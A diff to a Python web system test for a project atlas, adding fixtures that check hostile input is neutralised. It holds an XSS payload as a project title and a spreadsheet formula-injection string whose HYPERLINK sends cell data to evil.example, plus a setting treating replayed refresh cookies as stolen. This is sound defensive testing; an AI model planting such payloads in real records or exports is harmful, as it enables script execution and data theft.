@@ -21,6 +21,7 @@ from test_geo import PROJECTS
 
 ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
 HOSTILE = 'Projet piégé <img src=x onerror="window.__xss=1"><script>window.__xss=2</script>'
+HOSTILE_PARTNER = '=HYPERLINK("https://evil.example/?"&A1,"Bailleur (test)")'
 
 
 class WebTest(SystemTestCase):
@@ -32,7 +33,9 @@ class WebTest(SystemTestCase):
         cls.sys = System().start(extra_env={
             "geo": {"ATLAS_GEO_REFERENCE_FILE": ref},
             "gateway": {"ATLAS_WEB_ROOT": web, "ATLAS_RATE_LIMIT_TOKEN_RPS": "0",
-                        "ATLAS_RATE_LIMIT_IP_RPS": "0"}})
+                        "ATLAS_RATE_LIMIT_IP_RPS": "0",
+                        # The cookie replayed at once must count as stolen here.
+                        "ATLAS_REFRESH_REUSE_GRACE_S": "0"}})
         cls.addClassCleanup(cls.sys.stop)
         cls.tokens, _ = create_accounts(cls.sys)
         # A second editor of the first editor's organisation (two editors at once).
@@ -53,6 +56,8 @@ class WebTest(SystemTestCase):
                     "summary": {"fr": "Projet fictif de démonstration pour les tests."}}
             if point:
                 body["location"] = {"latitude": point[0], "longitude": point[1]}
+            if title == HOSTILE:  # a partner's name written like a spreadsheet formula
+                body["participatingOrganisations"] = [{"name": HOSTILE_PARTNER, "role": "FUNDING"}]
             name = cls.call("POST", "/v1/projects", body, "editor")["name"]
             cls.call("POST", f"/v1/{name}:submit", {}, "editor")
             cls.call("POST", f"/v1/{name}:publish", {}, "validator")
@@ -123,6 +128,7 @@ class WebTest(SystemTestCase):
                        "themeCount": sum("skills" in p[1] for p in PROJECTS) + 1,
                        "projectId": self.ids[first[0]], "projectTitle": first[0],
                        "hostileId": self.ids[HOSTILE], "hostileTitle": HOSTILE,
+                       "hostilePartner": HOSTILE_PARTNER,
                        "hostileWord": "piégé", "editorToken": self.tokens["editor"],
                        "validatorToken": self.tokens["validator"]}, f)
         out = subprocess.run(["node", os.path.join(ROOT, "web", "tests", "atlas.test.mjs"), self.sys.url,
